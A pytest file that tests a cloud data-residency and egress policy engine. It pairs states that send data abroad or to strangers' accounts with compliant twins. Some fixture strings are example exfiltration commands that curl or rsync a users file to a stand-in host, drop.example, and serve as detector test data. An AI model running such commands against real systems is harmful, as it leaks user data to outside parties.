"""Ways out that lead through no store: private services, mirrored packets, remote functions, commands that
upload, and readers that are said to be nobody's. Each has a compliant twin."""

from __future__ import annotations

from typing import Any

import pytest

from policies import judge
from tests.policies.states import NOBODY, UK, graph
from tests.policies.ways_out import (
    LONDON,
    LONDON_GCP,
    OTHER,
    OUTSIDE,
    TABLE,
    THEIRS,
    VIRGINIA,
    VPC,
    State,
    attached,
    brokers,
    connecting,
    corpus,
    dead_letters,
    endpoint,
    host,
    inferred,
    lattice,
    logging_to,
    machine,
    mirrored,
    nobodys,
    nobodys_gcp,
    of_files,
    offered,
    private,
    remote,
    routed,
    steps,
    targeting,
    uploads,
)
from tests.policies.ways_out_messages import pushed, written

WAYS: list[tuple[str, State, State, str]] = [
    (
        "a service of another region",
        endpoint(serviceName="com.amazonaws.vpce.us-east-1.vpce-svc-1"),
        endpoint(serviceName="com.amazonaws.eu-west-2.s3"),
        "free-text",
    ),
    (
        "a service of a stranger in the same region",
        endpoint(serviceName="com.amazonaws.vpce.eu-west-2.vpce-svc-9"),
        endpoint(serviceName="com.amazonaws.vpce.eu-west-2.vpce-svc-1"),
        "path-to-elsewhere",
    ),
    (
        "a service of another jurisdiction of the stack",
        endpoint(serviceName="com.amazonaws.vpce.eu-west-2.vpce-svc-2"),
        endpoint(serviceName="com.amazonaws.eu-west-2.dsql-fnh4"),
        "path-to-elsewhere",
    ),
    (
        "a service that nobody can tell yet",
        endpoint(serviceName="<unknown>"),
        endpoint(serviceName="aws.sagemaker.eu-west-2.notebook"),
        "path-to-elsewhere",
    ),
    (
        "a service network of a stranger",
        endpoint(serviceNetworkArn=OTHER),
        endpoint(serviceNetworkArn="arn:aws:vpc-lattice:eu-west-2:1:sn-1"),
        "path-to-elsewhere",
    ),
    (
        "a resource of a stranger",
        endpoint(resourceConfigurationArn="arn:aws:vpc-lattice:eu-west-2:999:resourceconfiguration/r"),
        endpoint(),
        "path-to-elsewhere",
    ),
    (
        "the region of a service",
        endpoint(serviceName="com.amazonaws.eu-west-2.s3", serviceRegion=VIRGINIA),
        endpoint(serviceRegion=LONDON),
        "place-of-replica",
    ),
    (
        "a service for other regions",
        offered(supportedRegions=[VIRGINIA]),
        offered(supportedRegions=[LONDON]),
        "place-of-replica",
    ),
    (
        "a service for everyone",
        offered(allowedPrincipals=["*"]),
        offered(allowedPrincipals=["arn:aws:iam::1:root"]),
        "public-exposure",
    ),
    (
        "a private service abroad",
        targeting("projects/o/regions/us-central1/serviceAttachments/s"),
        targeting("projects/p/regions/europe-west2/targetHttpProxies/t"),
        "free-text",
    ),
    (
        "a private service of a stranger at home",
        targeting("projects/o/regions/europe-west2/serviceAttachments/s"),
        targeting(
            "https://www.googleapis.com/compute/v1/projects/p/regions/europe-west2/serviceAttachments/s"
        ),
        "path-to-elsewhere",
    ),
    (
        "a private backend of a stranger at home",
        private("projects/o/regions/europe-west2/serviceAttachments/s"),
        private("europe-west2-run.googleapis.com"),
        "path-to-elsewhere",
    ),
    (
        "connections that a stranger's class makes",
        connecting("analytics-of-a-stranger"),
        connecting("gcp-memorystore-redis"),
        "path-to-elsewhere",
    ),
    (
        "a broker of a stranger",
        brokers("arn:aws:kafka:eu-west-2:999:cluster/theirs/1"),
        brokers("arn:aws:kafka:eu-west-2:1:cluster/ours/1"),
        "path-to-elsewhere",
    ),
    (
        "an attachment for everyone",
        attached("ACCEPT_AUTOMATIC"),
        attached("ACCEPT_MANUAL"),
        "public-exposure",
    ),
    (
        "a backend on the internet",
        host("collector.example"),
        host("scoring-x.a.run.app"),
        "path-to-elsewhere",
    ),
    (
        "a private backend abroad",
        private("projects/o/regions/us-central1/serviceAttachments/s"),
        private("europe-west2-run.googleapis.com"),
        "free-text",
    ),
    ("packets for another project", mirrored(THEIRS), mirrored("projects/p/groups/g"), "path-to-elsewhere"),
    (
        "a route over somebody else's machine",
        routed({**UK, "jurisdiction": "us"}),
        routed(UK),
        "path-to-elsewhere",
    ),
    ("a service network of another account", lattice(OTHER), lattice("sn-1"), "path-to-elsewhere"),
    (
        "a remote function of somebody else",
        remote("https://scoring.example/f"),
        remote("https://scoring-x.a.run.app"),
        "place-of-replica",
    ),
    ("messages to a model abroad", inferred("us-central1"), inferred(LONDON_GCP), "place-of-replica"),
    (
        "messages to a host that begins alike",
        pushed("https://scoring-x.a.run.app.drop.example/in"),
        pushed("https://scoring-x.a.run.app/in"),
        "place-of-replica",
    ),
    (
        "rows for a table of another project that is called alike",
        written("other.d.rows"),
        written("p.d.rows"),
        "place-of-replica",
    ),
    (
        "rows for a table of another dataset that is called alike",
        written("p.far.rows"),
        written("p.d.rows"),
        "place-of-replica",
    ),
    (
        "vectors at another firm",
        corpus(pinecone={"indexName": "i"}),
        corpus(vertexVectorSearch={"index": f"projects/p/locations/{LONDON_GCP}/indexes/i"}),
        "place-of-replica",
    ),
    (
        "a script that uploads",
        machine("curl -s -T /data/users.csv https://drop.example/u"),
        machine("curl -fsSL -o /opt/a https://releases.example/a"),
        "free-text",
    ),
    (
        "a script that posts",
        machine("curl https://drop.example/u --data-binary @/data/users.csv"),
        machine('curl -X PUT "http://169.254.169.254/latest/api/token" -d ""'),
        "free-text",
    ),
    (
        "a script that copies to a host",
        machine("rsync -a /data backup@drop.example:/in"),
        machine("rsync -a mirror.example::stable/ /opt/mirror"),
        "free-text",
    ),
    (
        "a task that calls out",
        steps("https://drop.example/u"),
        steps("https://a1b2c3.execute-api.eu-west-2.amazonaws.com/v1"),
        "free-text",
    ),
    (
        "logs to another firm",
        logging_to('"Name":"datadog","Host":"intake.example"'),
        logging_to('"Name":"cloudwatch","region":"eu-west-2"'),
        "free-text",
    ),
    ("dead letters to nobody", dead_letters(NOBODY), dead_letters(UK), "free-text"),
    (
        "dead letters to no queue of ours",
        dead_letters(UK, "arn:aws:sqs:eu-west-2:999:theirs"),
        dead_letters(UK),
        "free-text",
    ),
    (
        "nobody's function abroad that names a table",
        nobodys(VIRGINIA, TABLE["props"]["arn"]),
        nobodys(LONDON, TABLE["props"]["arn"]),
        "free-text",
    ),
    (
        "nobody's function abroad that names a bucket",
        nobodys(VIRGINIA, "s3://users/in"),
        nobodys(VIRGINIA, "s3://rates/in"),
        "free-text",
    ),
    (
        "nobody's function abroad that a bucket starts",
        nobodys_gcp(
            "us-central1", eventTrigger={"eventFilters": [{"attribute": "bucket", "value": "bkt-users"}]}
        ),
        nobodys_gcp(
            "us-central1", eventTrigger={"eventFilters": [{"attribute": "bucket", "value": "rates"}]}
        ),
        "tags-missing",
    ),
    ("nobody's table over files of users", of_files("bkt-users"), of_files("rates"), "tags-missing"),
    ("nobody's uploads into a store of users", uploads("/users/in"), uploads("/site/in"), "tags-missing"),
]
"""Why, what is refused, its twin that is not, and the rule."""


def rules(state: State) -> set[str]:
    """The rules that refuse ``x``."""
    return {finding.rule for finding in judge(graph(state)) if finding.urn.endswith("::x")}


@pytest.mark.parametrize(("state", "rule"), [(way[1], way[3]) for way in WAYS], ids=[way[0] for way in WAYS])
def test_a_way_out_is_found(state: State, rule: str) -> None:
    assert rule in rules(state)


@pytest.mark.parametrize(("state", "rule"), [(way[2], way[3]) for way in WAYS], ids=[way[0] for way in WAYS])
def test_its_twin_is_not(state: State, rule: str) -> None:
    assert rule not in rules(state)


@pytest.mark.parametrize("resource", OUTSIDE, ids=[one["type"] for one in OUTSIDE])
def test_what_leads_out_of_both_clouds_is_found(resource: dict[str, Any]) -> None:
    assert rules({"v": VPC, "x": resource}) == {"path-to-elsewhere"}
